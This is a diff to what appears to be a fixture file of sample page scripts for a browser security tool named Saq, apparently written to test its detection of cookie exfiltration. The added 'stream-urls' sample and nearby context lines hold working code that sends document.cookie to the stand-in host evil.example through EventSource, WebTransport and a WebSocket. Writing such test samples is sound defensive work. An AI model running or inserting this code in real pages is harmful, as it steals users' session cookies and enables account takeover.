@@ -312,6 +312,22 @@ export const MAIN_WORLD_SCRIPTS = {
   socket.onopen = () => socket.send(document.cookie);
 })();`,
 
+  /**
+   * The cookie in the URL of connections other than a WebSocket: an EventSource stream (a string URL, and
+   * a URL object), and a WebTransport session where the browser has it (its connection fails: the attempt
+   * is what Saq can see).
+   */
+  'stream-urls': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  new EventSource('https://evil.example/s-events?c=' + c).onerror = (e) => e.target.close();
+  new EventSource(new URL('https://evil.example/s-events-object?c=' + c)).onerror = (e) => e.target.close();
+  if (typeof WebTransport === 'function') {
+    const session = new WebTransport('https://evil.example/s-transport?c=' + c);
+    session.ready.catch(() => {});
+    session.closed.catch(() => {});
+  }
+})();`,
+
   /** Posts a hidden form to a paste site. */
   'form-post': `(() => {
   const form = document.createElement('form');
